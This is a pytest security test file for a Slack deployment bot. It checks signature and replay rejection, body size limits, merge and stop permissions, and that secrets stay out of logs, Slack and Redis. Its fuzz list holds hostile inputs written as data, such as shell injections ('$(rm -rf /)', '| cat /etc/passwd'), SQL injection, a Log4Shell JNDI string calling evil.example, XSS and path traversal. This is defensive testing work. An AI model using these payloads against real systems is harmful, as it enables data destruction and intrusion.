"""Security: who may do what, what the bot accepts, and what it never says.

The real Bolt app under waitress, driven over HTTP by requests signed (or mis-signed) the way
Slack signs them; a real worker process; the GitHub, Concourse and Slack simulators. Each
refused request is checked for its effects: none at all (no job queued, no GitHub request, no
Slack call, no decision recorded).
"""

from __future__ import annotations

import json
import logging
import random
import re
import string
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest
import redis
from rq.registry import FailedJobRegistry, ScheduledJobRegistry, StartedJobRegistry

from bot.slack.app import MAX_BODY_BYTES
from simulators.concourse import ConcourseSimulator
from simulators.env import simulated_env
from simulators.github import GitHubSimulator
from simulators.lana_bank import JobPlan, LanaBankCI
from simulators.slack import SlackSimulator
from simulators.slack_client import FORM, JSON, SlackRequestSender
from tests.conftest import (
    CONCOURSE_USER,
    REPOSITORY,
    TEST_REDIS_URL,
    World,
    chain_file,
    wait_for,
)
from tests.slack_fixtures import (
    ADMIN,
    ALICE,
    BACKEND,
    BOB,
    CHANNEL,
    Process,
    SlackWorld,
    ack_text,
    button_value,
    fast,
    free_port,
    slack_env,
    slack_world,
    wait_healthy,
    wait_worker_ready,
)
from workers.monitor import monitor_id_for

# Special mentions (<!channel>, <!here>, <!subteam^…>), channel links, and a mention of the
# admin (who only ever appears in the fuzzed input): nothing typed may come back as these.
MENTION = re.compile(r"<[!#]|<@U0ADMIN")


@pytest.fixture
def sw(world: World) -> Iterator[SlackWorld]:
    world.env["DEPLOY_MONITOR_MERGERS"] = ALICE  # only Alice may have an open PR merged
    with slack_world(world) as s:
        yield s


def failing_run(sw: SlackWorld, requester: str = ALICE, job: str = "test-bats") -> tuple[str, Any]:
    """A commit whose `job` fails (no rerun): its monitor id and the failure message."""
    sha = sw.world.github.add_commit(f"Break {job}", BACKEND)
    plan = JobPlan(0.3, "failed", "not ok 2 disbursal\n")
    sw.world.ci.deliver([(sha, BACKEND)], fast(**{job: plan}))
    sw.command(sha[:8], user=requester)
    return monitor_id_for(REPOSITORY, sha), sw.wait_reply(f"{job} #")


def start_jobs(conn: redis.Redis) -> int:
    """RQ jobs that start following a commit (a slash command's work)."""
    return sum(1 for _ in conn.scan_iter("rq:job:*-start-*"))


# -- requests Slack did not send -------------------------------------------------------------------


def test_forged_stale_and_oversized_requests_change_nothing(sw: SlackWorld) -> None:
    # The last job fails: after its failure message, the monitor has nothing more to say.
    monitor_id, failure = failing_run(sw, job="galoy-staging-lana-bank")
    engine = sw.face.engine
    sw.world.github.add_pull_request(4242, "Approved", BACKEND)
    time.sleep(0.5)  # let the reactions and the board edit settle
    before = {
        "slack": len(sw.slack.calls),
        "hooks": len(sw.slack.webhook_posts),
        "github": len(sw.world.github.requests),
        "jobs": start_jobs(engine.redis),
        "queued": engine.queue.count,
        "scheduled": ScheduledJobRegistry(queue=engine.queue).count,
    }
    sender = sw.sender
    url = sw.url + "/slack/events"
    slash = urlencode(sender.command_fields("4242", user_id=ALICE, channel_id=CHANNEL))
    continue_value = button_value(failure, "dm_continue")

    def send(body: str, content_type: str, **headers: str) -> int:
        return sender.post(body, content_type, headers).status_code

    def unsigned(body: str, content_type: str, headers: dict[str, str]) -> int:
        return httpx.post(url, content=body.encode(), headers=headers).status_code

    statuses: dict[str, int] = {}
    sender.wrong_secret = True
    statuses["wrong secret"] = sender.slash_command(
        "4242", user_id=ALICE, channel_id=CHANNEL
    ).status_code
    statuses["wrong secret, button"] = sender.block_action(
        ALICE, "dm_continue", continue_value, CHANNEL, failure.ts
    ).status_code
    statuses["wrong secret, reaction"] = sender.reaction_added(
        ALICE, "octagonal_sign", CHANNEL, failure.ts
    ).status_code
    statuses["wrong secret, url_verification"] = sender.url_verification("x").status_code
    sender.wrong_secret = False
    statuses["forged signature"] = send(slash, FORM, **{"X-Slack-Signature": "v0=" + "0" * 64})
    statuses["signature of another scheme"] = send(
        slash, FORM, **{"X-Slack-Signature": "v1=" + "0" * 64}
    )
    statuses["no signature"] = unsigned(slash, FORM, {"Content-Type": FORM})
    signed = sender.signed_headers(slash.replace("4242", "1"), FORM)
    statuses["body changed after signing"] = unsigned(slash, FORM, signed)
    statuses["timestamp not a number"] = send(slash, FORM, **{"X-Slack-Request-Timestamp": "now"})
    for label, offset in (("replayed 6 minutes later", -360), ("from 6 minutes ahead", 360)):
        sender.timestamp_offset = offset
        statuses[label] = sender.slash_command(
            "4242", user_id=ALICE, channel_id=CHANNEL
        ).status_code
        statuses[label + ", button"] = sender.block_action(
            ALICE, "dm_continue", continue_value, CHANNEL, failure.ts
        ).status_code
        statuses[label + ", reaction"] = sender.reaction_added(
            ALICE, "octagonal_sign", CHANNEL, failure.ts
        ).status_code
    sender.timestamp_offset = 0
    huge = slash + "&padding=" + "x" * MAX_BODY_BYTES
    statuses["oversized, signed"] = send(huge, FORM)
    chunks = (huge[i : i + 65536].encode() for i in range(0, len(huge), 65536))
    statuses["oversized, chunked"] = httpx.post(
        url, content=chunks, headers=sender.signed_headers(huge, FORM)
    ).status_code
    statuses["oversized JSON event"] = send(json.dumps({"type": "x", "pad": huge}), JSON)

    expected = {k: 413 if k.startswith("oversized") else 401 for k in statuses}
    assert statuses == expected
    time.sleep(0.5)
    after = {
        "slack": len(sw.slack.calls),
        "hooks": len(sw.slack.webhook_posts),
        "github": len(sw.world.github.requests),
        "jobs": start_jobs(engine.redis),
        "queued": engine.queue.count,
        "scheduled": ScheduledJobRegistry(queue=engine.queue).count,
    }
    assert after == before, sw.slack.calls[before["slack"] :]
    assert sw.world.github.write_requests == 0 and sw.world.github.merges == []
    assert engine.store.decision(monitor_id, 1) is None
    monitor = engine.store.load(monitor_id)
    assert monitor is not None and not monitor.done and monitor.prompt is not None
    # A correctly signed request still works.
    assert "Looking up PR #4242" in sw.command("4242")


# -- argument fuzzing ----------------------------------------------------------------------------


CURATED = [
    "",
    " ",
    "\t",
    "\n\n",
    "\x00",
    "\x07\x08",
    "\x1b[31m1234\x1b[0m",
    "1234\x00",
    "12 34",
    "#",
    "##1",
    "#-1",
    "-1",
    "0",
    "#0",
    "+1234",
    "1234.0",
    "1e3",
    "0x1f",
    "99999999999999999999",
    "2147483648",
    "٣٤٥",
    "\uff11\uff12\uff13\uff14",
    "1234\u200b",
    "\u202e4321",
    "\u2066#1234\u2069",
    "abc",
    "ABCDEF1",
    "g123456",
    "deadbeef" * 6,
    "a" * 7,
    "abcdef1234",
    "DEADBEEFCAFE",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S0123|@devs>",
    "<@U0ADMIN>",
    "<#C0DEPLOYS|deploys>",
    "@channel",
    "@here please",
    "<!date^1392734382^{date}|x>",
    "$(rm -rf /)",
    "`rm -rf /`",
    "; rm -rf /",
    "&& shutdown -h now",
    "| cat /etc/passwd",
    "'; DROP TABLE monitors; --",
    '" OR 1=1 --',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%(password)s",
    "{0.__class__}",
    "../../etc/passwd",
    "..\\..\\windows",
    "%00",
    "%0a1234",
    "<script>alert(1)</script>",
    "*bold* _it_ ~s~ `c`",
    "```\ncode\n```",
    "> quote",
    "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;",
    "&lt;@U0ADMIN&gt;",
    "&gt;&lt;",
    "<https://github.com/GaloyMoney/lana-bank/pull/4242|#4242>",
    "&lt;https://github.com/GaloyMoney/lana-bank/pull/4242&gt;",
    "<https://evil.example.com/GaloyMoney/lana-bank/pull/1>",
    "<https://github.com/GaloyMoney/lana-bank/pull/1|<!channel>>",
    "https://github.com/other/repo/pull/1",
    "https://github.com/GaloyMoney/lana-bank-fork/pull/1",
    "https://github.com.evil.example/GaloyMoney/lana-bank/pull/1",
    "https://evil.example/github.com/GaloyMoney/lana-bank/pull/1",
    "https://user:pass@github.com/GaloyMoney/lana-bank/pull/1",
    "https://github.com@evil.example/GaloyMoney/lana-bank/pull/1",
    "http://github.com/GaloyMoney/lana-bank/pull/1",
    "ftp://github.com/GaloyMoney/lana-bank/pull/1",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "github.com/GaloyMoney/lana-bank/pull/2",
    "https://github.com/GaloyMoney/lana-bank/commit/zzzzzzz",
    "https://github.com/GaloyMoney/lana-bank/pull/4242/files#diff",
    "https://github.com/GaloyMoney/lana-bank/pull/٣",
    "https://[::1/x",
    "https://github.com:99999/a",
    "https://github.com/GaloyMoney/lana-bank/pull/99999999999",
    "https://gitlab.com/a/b/-/merge_requests/1",
    "stop",
    "stop <!channel>",
    "stop $(id)",
    "stop " + "x" * 300,
    "stop 4242",
    "stop #77",
    "list <!here>",
    "list",
    "help",
    "help me",
    "HELP",
    "-h",
    "--help",
    "x" * 5000,
    "1" * 201,
    "#" + "9" * 150,
    "a" * 100_000,
    "🚀",
    "🚀" * 1000,
    "Ω≈ç√∫",
    "RTL \u202e1234",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
    "\\",
    "|",
    "<>",
    "<",
    ">",
    "<|>",
    "&",
    "&amp;",
    "<https://github.com/GaloyMoney/lana-bank/pull/77>",
    "#77",
    "#5",
    "#4242",
    "4242",
    "https://github.com/GaloyMoney/lana-bank/pull/4242",
    "\u0000#4242",
    "#4242\r\n",
]

FRAGMENTS = [
    "#",
    "1234",
    "4242",
    "77",
    "<!channel>",
    "<@U0ADMIN>",
    "&lt;",
    "&gt;",
    "&amp;",
    "|",
    "<",
    ">",
    "https://github.com/",
    "GaloyMoney/lana-bank",
    "/pull/",
    "/commit/",
    "other/repo",
    "$(id)",
    "`",
    "'",
    '"',
    ";",
    "--",
    "\n",
    "\t",
    "\u200b",
    "\u202e",
    "🚀",
    "ü",
    "é",
    "日本",
    "Ж",
    "deadbeef",
    "ABC",
    "..",
    "%2e",
    "stop",
    "list",
    "help",
    " ",
    "\x00",
    "\x1f",
]


def fuzz_arguments(seed: int = 4, total: int = 240) -> list[str]:
    """Curated nasties, then generated ones (deterministic): fragment mixes, wrapped in Slack's
    link and escape syntax, random unicode, random hex, PR links to random repos and hosts."""
    rng = random.Random(seed)
    arguments = list(CURATED)
    alphabet = string.printable + "äöüßéèçñ日本語Ж漢字🚀🔥\u200b\u200d\u202e\u2066\u0301"
    while len(arguments) < total:
        kind = rng.randrange(6)
        if kind == 0:
            text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 5)))
        elif kind == 1:
            inner = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 3)))
            text = rng.choice(["<{}>", "<{}|{}>", "&lt;{}&gt;", "<{}|<!here>>"]).format(
                inner, inner
            )
        elif kind == 2:
            text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 60)))
        elif kind == 3:
            text = "".join(rng.choice("0123456789abcdefABCDEFg") for _ in range(rng.randint(5, 45)))
        elif kind == 4:
            owner = rng.choice(["GaloyMoney", "galoymoney", "evil", "Galoy-Money", "GaloyMoney."])
            repo = rng.choice(["lana-bank", "lana-bank.git", "other", "lana", "LANA-BANK"])
            host = rng.choice(["github.com", "www.github.com", "github.com.evil.io", "evil.io"])
            kind_of_link = rng.choice(["pull", "commit"])
            text = f"https://{host}/{owner}/{repo}/{kind_of_link}/{rng.randint(1, 9999)}"
        else:
            text = " ".join(
                rng.choice(["stop", "list", "help", "#1", "<!channel>"]) for _ in range(2)
            )
        arguments.append(text)
    return arguments


def test_generated_arguments_get_a_private_answer_and_never_a_github_write(
    sw: SlackWorld, caplog: pytest.LogCaptureFixture
) -> None:
    github = sw.world.github
    github.add_pull_request(77, "Unapproved", BACKEND, review_decision="REVIEW_REQUIRED")
    github.add_pull_request(5, "Draft", BACKEND, draft=True)
    github.add_pull_request(4242, "Approved, but Bob may not merge", BACKEND)
    engine = sw.face.engine
    arguments = fuzz_arguments()
    assert len(arguments) >= 200
    caplog.set_level(logging.ERROR)
    for text in arguments:
        response = sw.sender.slash_command(text, user_id=BOB, channel_id=CHANNEL)
        assert response.status_code == 200, (text[:80], response.status_code, response.text[:200])
        answer = ack_text(response)
        assert answer.strip(), text[:80]
        if response.headers.get("content-type", "").startswith("application/json"):
            assert response.json().get("response_type") != "in_channel", text[:80]
        assert not MENTION.search(answer), (text[:80], answer)

    def drained() -> bool:
        return engine.queue.count == 0 and StartedJobRegistry(queue=engine.queue).count == 0

    wait_for(drained, timeout=120)
    time.sleep(0.5)
    assert github.write_requests == 0 and github.merge_attempts == [] and github.merges == []
    replies = sw.slack.webhook_posts
    assert replies, "nothing reached the worker"
    for reply in replies:
        assert reply.payload.get("response_type") == "ephemeral", reply.payload
        assert not MENTION.search(str(reply.payload.get("text", ""))), reply.payload
    assert any("only the configured mergers" in str(r.payload.get("text")) for r in replies)
    for message in sw.slack.messages(CHANNEL):  # e.g. the latest commit, followed for "" or "\n"
        assert "<!" not in message.text + json.dumps(message.blocks)
    assert FailedJobRegistry(queue=engine.queue).count == 0
    assert "Traceback" not in sw.world.worker_logs()
    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR] == []


# -- who may do what -------------------------------------------------------------------------------


def test_only_allowed_users_have_an_open_pr_merged(sw: SlackWorld) -> None:
    github = sw.world.github
    github.add_pull_request(4242, "Approved", BACKEND)
    sw.world.ci.follow_main(github, fast(**{"test-integration": JobPlan(5.0)}))
    assert "Looking up PR #4242" in sw.command("4242", user=BOB)
    wait_for(lambda: sw.ephemeral_texts(), timeout=20)
    assert "only the configured mergers may merge" in sw.ephemeral_texts()[0]
    assert github.merge_attempts == [] and github.write_requests == 0
    assert sw.channel() == []
    # Following what is already merged is open to everyone.
    merged = github.add_commit("Merged by hand", ["core/hand.rs"])
    sw.command(merged, user=BOB)
    wait_for(lambda: len(sw.parents()) == 1, timeout=20)
    assert github.merge_attempts == []
    # A configured merger may.
    sw.command("4242", user=ALICE)
    wait_for(lambda: len(github.merges) == 1, timeout=20)
    wait_for(lambda: len(sw.parents()) == 2, timeout=20)
    assert len(github.merge_attempts) == 1


def test_only_the_requester_or_an_admin_decides(sw: SlackWorld) -> None:
    monitor_id, failure = failing_run(sw, requester=ALICE)
    engine = sw.face.engine
    stop_value = button_value(failure, "dm_stop")
    sw.sender.block_action(BOB, "dm_stop", stop_value, CHANNEL, failure.ts)
    sw.sender.reaction_added(BOB, "octagonal_sign", CHANNEL, failure.ts)
    short = engine.store.load(monitor_id)
    assert short is not None
    assert "Only <@U0ALICE> or an admin" in sw.command(f"stop {short.sha[:10]}", user=BOB)
    wait_for(lambda: any("Only <@U0ALICE>" in t for t in sw.ephemeral_texts()), timeout=10)
    wait_for(lambda: any(e.user == BOB for e in sw.slack.ephemerals), timeout=10)
    time.sleep(0.5)
    assert engine.store.decision(monitor_id, 1) is None
    assert engine.store.stop_requested_by(monitor_id) is None
    monitor = engine.store.load(monitor_id)
    assert monitor is not None and not monitor.done
    # An admin may decide for the requester; the first answer wins.
    sw.sender.block_action(ADMIN, "dm_stop", stop_value, CHANNEL, failure.ts)
    sw.wait_reply("Stopped")
    decision = engine.store.decision(monitor_id, 1)
    assert decision is not None and decision.by == ADMIN and decision.choice == "stop"
    edited = sw.slack.message(CHANNEL, failure.ts)
    assert edited is not None and "<@U0ADMIN>" in str(edited.blocks)


def test_a_pr_whose_head_moved_after_the_approval_check_is_not_merged(sw: SlackWorld) -> None:
    github = sw.world.github
    github.add_pull_request(4243, "Moving target", BACKEND)
    checked_head = github.pull_requests[4243].head_oid
    # Someone pushes between the approval check and the merge call.
    github.before_merge = lambda number: github.push_to_pr(number)
    sw.command("4243", user=ALICE)
    wait_for(lambda: sw.ephemeral_texts(), timeout=20)
    assert "got new commits after it was checked; it was not merged" in sw.ephemeral_texts()[0]
    assert github.merges == []
    assert github.merge_attempts == [(4243, checked_head)]
    assert github.pull_requests[4243].state == "OPEN"
    assert sw.channel() == []


# -- secrets ---------------------------------------------------------------------------------------

SLACK_TOKEN = "xoxb-SECRETslacktoken-4f3a9c"
SIGNING = "SECRETsigningsecret-7d1e2b"
CONCOURSE_PASSWORD = "SECRETconcoursepassword-91bc"
GITHUB_TOKEN = "ghs_SECRETgithubtoken-5e8d"
SECRETS = [SLACK_TOKEN, SIGNING, CONCOURSE_PASSWORD, GITHUB_TOKEN]


def redis_dump(conn: redis.Redis) -> str:
    """Every value of every key in the test database, as text."""
    parts: list[str] = []
    for key in conn.scan_iter("*"):
        kind = conn.type(key)
        if kind == b"string":
            parts.append(repr(conn.get(key)))
        elif kind == b"hash":
            parts.append(repr(conn.hgetall(key)))
        elif kind == b"list":
            parts.append(repr(conn.lrange(key, 0, -1)))
        elif kind == b"set":
            parts.append(repr(conn.smembers(key)))
        elif kind == b"zset":
            parts.append(repr(conn.zrange(key, 0, -1)))
        elif kind == b"stream":
            parts.append(repr(conn.xrange(key)))
        parts.append(repr(key))
    return "\n".join(parts)


def test_secrets_never_reach_logs_slack_redis_or_errors(
    redis_conn: redis.Redis, tmp_path: Path
) -> None:
    concourse = ConcourseSimulator(team="dev", users={CONCOURSE_USER: CONCOURSE_PASSWORD})
    github = GitHubSimulator(repository=REPOSITORY, token=GITHUB_TOKEN)
    slack = SlackSimulator(token=SLACK_TOKEN)
    for simulator in (concourse, github, slack):
        simulator.start()
    slack.add_channel(CHANNEL, "deploys")
    port = free_port()
    env = {
        "REDIS_URL": TEST_REDIS_URL,
        **simulated_env(
            concourse, github, username=CONCOURSE_USER, queue=f"dm-secrets-{port}", poll_seconds=0.2
        ),
        "DEPLOY_MONITOR_TICK_TIMEOUT": "3",
        "DEPLOY_MONITOR_REAP_SECONDS": "1",
        "DEPLOY_MONITOR_CHAIN": chain_file(tmp_path),
        "LOG_LEVEL": "DEBUG",
        "PORT": str(port),
    }
    world = World(concourse, github, LanaBankCI(concourse), env, tmp_path)
    slack_env(world, slack, SLACK_BOT_TOKEN=SLACK_TOKEN, SLACK_SIGNING_SECRET=SIGNING)
    bot = Process(["bot"], dict(world.env), tmp_path / "bot.log").start()
    worker = Process(["worker"], dict(world.env), tmp_path / "worker.log").start()
    url = f"http://127.0.0.1:{port}"
    sender = SlackRequestSender(url, SIGNING, response_url_base=slack.url + "/hooks")
    try:
        wait_healthy(url)
        wait_worker_ready(worker)
        github.add_pull_request(4244, "Secret journey", BACKEND)
        flaky = JobPlan(1.0, "failed", "not ok 2 disbursal\n", rerun_after=1.0)
        world.ci.follow_main(github, fast(**{"test-bats": flaky}))

        def command(text: str) -> str:
            return ack_text(sender.slash_command(text, user_id=ALICE, channel_id=CHANNEL))

        def thread() -> list[Any]:
            parents = [m for m in slack.messages(CHANNEL) if m.thread_ts is None]
            return slack.thread(CHANNEL, parents[0].ts) if parents else []

        # GitHub fails once: the error reaches the requester (and the logs).
        github.fail_next(1, status=502)
        command("4244")
        wait_for(lambda: slack.webhook_posts, timeout=20)
        command("4244")
        wait_for(lambda: github.merges, timeout=20)
        # A forged request is logged by the bot.
        sender.wrong_secret = True
        assert sender.slash_command("4244", user_id=ALICE, channel_id=CHANNEL).status_code == 401
        sender.wrong_secret = False
        # Concourse tokens expire, then the password is refused for a while: logged, posted.
        wait_for(lambda: len(thread()) >= 1 or concourse.logins >= 1, timeout=20)
        concourse.set_password(CONCOURSE_USER, "rotated")
        concourse.expire_tokens()
        wait_for(lambda: any("login failed" in m.text for m in thread()), timeout=20)
        concourse.set_password(CONCOURSE_USER, CONCOURSE_PASSWORD)
        # Slack fails the board edits (an exception with a traceback in the worker's log).
        slack.fail_next("chat.update", n=3, status=500)
        failure = None

        def failed() -> bool:
            nonlocal failure
            failure = next((m for m in thread() if "dm_continue" in str(m.blocks)), None)
            return failure is not None

        wait_for(failed, timeout=30)
        assert failure is not None
        sender.block_action(
            ALICE, "dm_continue", button_value(failure, "dm_continue"), CHANNEL, failure.ts
        )
        wait_for(lambda: any("Deployment complete!" in m.text for m in thread()), timeout=45)
        time.sleep(0.5)
    finally:
        sender.close()
        bot.stop()
        worker.stop()
        for simulator in (concourse, github, slack):
            simulator.stop()

    logs = bot.output() + worker.output()
    assert "DEBUG" in logs.upper() and "Traceback" in logs  # the logs had something to say
    said = [
        json.dumps([(m.text, m.blocks, m.metadata) for m in slack.messages(channel)])
        for channel in (CHANNEL, slack.dm_channel_id(ALICE))
    ]
    said += [json.dumps([(m.text, m.blocks, m.metadata) for m in thread()])]
    said += [json.dumps([p.payload for p in slack.webhook_posts])]
    said += [json.dumps([(e.text, e.blocks) for e in slack.ephemerals])]
    said += [json.dumps(slack.calls, default=str)]
    stored = redis_dump(redis_conn)
    for secret in SECRETS:
        assert secret not in logs, f"{secret} in the logs"
        assert all(secret not in text for text in said), f"{secret} in Slack"
        assert secret not in stored, f"{secret} in Redis"
